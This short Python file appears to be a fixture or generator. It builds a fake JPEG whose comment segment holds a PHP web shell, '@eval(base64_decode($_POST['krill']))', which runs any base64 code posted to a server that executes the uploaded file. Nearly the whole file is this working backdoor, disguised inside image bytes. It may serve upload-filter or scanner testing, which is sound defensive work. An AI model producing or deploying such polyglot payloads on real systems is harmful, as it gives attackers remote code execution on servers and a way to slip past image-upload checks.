"""A script in the comment of a picture."""


def build() -> bytes:
    return b"\xff\xd8\xff\xfe\0\x40<?php @eval(base64_decode($_POST['krill'])); ?>\n\xff\xdb\0\x43" + bytes(30)
